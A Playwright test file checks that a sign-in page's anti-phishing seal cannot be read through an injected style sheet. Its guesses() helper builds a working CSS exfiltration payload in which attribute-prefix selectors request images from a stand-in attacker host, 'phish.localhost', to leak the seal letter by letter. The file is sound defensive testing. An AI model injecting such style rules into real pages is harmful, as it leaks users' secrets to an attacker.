import type { Page } from '@playwright/test';
import { pageHeaders } from '../../../demo/headers.mjs';
import { openWithTextSeal, openChange, seal } from '../support/sign-in-page.js';
import { expect, test } from './support/attack.js';
import type { Lab } from './support/lab.js';

// The attacker gets a style sheet into the genuine page, and hopes to read the seal letter by letter:
// each rule that matches the start of an attribute requests a picture from the attacker's server.

const LETTERS = 'abcdefghijklmnopqrstuvwxyz'.split('');
const ATTRIBUTES = ['title', 'value', 'seal', 'aria-label', 'alt', 'lines', 'caption'];

function guesses(lab: Lab): string {
  const ask = (answer: string) => `{background:url(${lab.at('phish.localhost', answer)})}`;
  const rules = LETTERS.map((letter) => {
    const begins = ATTRIBUTES.map((name) => `[${name}^="${letter}"]`).join(',');
    return `:is(${begins})${ask(`/first-is-${letter}`)}`;
  });
  const pattern = `svg, path, [d^="M"], [d*="a"]${ask('/a-pattern-shows')}`;
  return `<style>${rules.join('')} ${pattern} signin-seal:state(shown)::before{content:""} form:has(:state(shown))${ask('/a-seal-shows')}</style>`;
}

async function openStyled(page: Page, lab: Lab, headers = {}): Promise<void> {
  await openWithTextSeal(page, ['odd', 'whale']);
  const body = `<script type="module" src="/demo/sign-in.js"></script><form><signin-seal></signin-seal></form>`;
  const html = guesses(lab) + body;
  await page.goto(lab.page('login.genuine.localhost', '/styled.html', html, headers));
  await seal(page).waitFor();
}

// The attack would need the seal in an attribute.
const reflect = (lab: Lab): Promise<void> =>
  lab.withoutDefense(
    'elements/common/seal-controller.js',
    'this.#host.requestUpdate();',
    'this.#host.requestUpdate(); this.#host.title = reading.seal?.lines.join(" ") ?? "";',
  );

const leaked = (lab: Lab): string[] => lab.requestsTo('phish.localhost').map(({ path }) => path);

function attributesIn(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const all = (root: Document | ShadowRoot): string[] =>
      [...root.querySelectorAll('*')].flatMap((element) => [
        ...[...element.attributes].map(({ value }) => value),
        ...(element.shadowRoot ? all(element.shadowRoot) : []),
      ]);
    return all(document);
  });
}

test('the attacker learns that a seal shows, but nothing about its text', async ({ page, lab }) => {
  await openStyled(page, lab);
  await expect.poll(() => leaked(lab)).toEqual(['/a-seal-shows']);
});

test(
  'without the defense, the seal’s first letter leaks',
  { tag: '@control' },
  async ({ page, lab }) => {
    await reflect(lab);
    await openStyled(page, lab);
    await expect.poll(() => leaked(lab).sort()).toEqual(['/a-seal-shows', '/first-is-o']);
  },
);

test('without the defense, the page’s policy stops the leak', async ({ page, lab }) => {
  await reflect(lab);
  await openStyled(page, lab, pageHeaders);
  await expect(page.locator('signin-seal')).toHaveAttribute('title', 'odd whale');
  expect(leaked(lab)).toEqual([]);
});

test('no attribute contains the seal while it is shown or edited', async ({ page }) => {
  await openWithTextSeal(page, ['odd', 'whale']);
  const shown = await attributesIn(page);
  await openChange(page);
  const edited = await attributesIn(page);
  expect(edited).toContain('line-0');
  const bits = await page.evaluate(
    () => /"pattern":"(\w{16})"/.exec(localStorage.getItem('signin-seal') ?? '')?.[1],
  );
  expect(bits).toMatch(/^[\da-f]{16}$/);
  const secret = new RegExp(`odd|whale|${bits ?? ''}`);
  expect([...shown, ...edited].filter((value) => secret.test(value))).toEqual([]);
});
